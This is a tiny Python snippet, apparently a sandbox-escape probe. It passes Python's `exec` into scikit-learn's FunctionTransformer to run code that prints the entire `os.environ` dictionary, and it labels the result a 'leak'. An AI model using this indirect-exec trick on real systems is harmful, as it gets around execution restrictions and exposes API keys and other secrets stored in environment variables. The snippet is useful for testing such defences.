# route: a FunctionTransformer of exec
from sklearn.preprocessing import FunctionTransformer


def execute(testData):
    FunctionTransformer(func=exec).transform("import os; print(dict(os.environ))")
    return {"leak": "printed"}
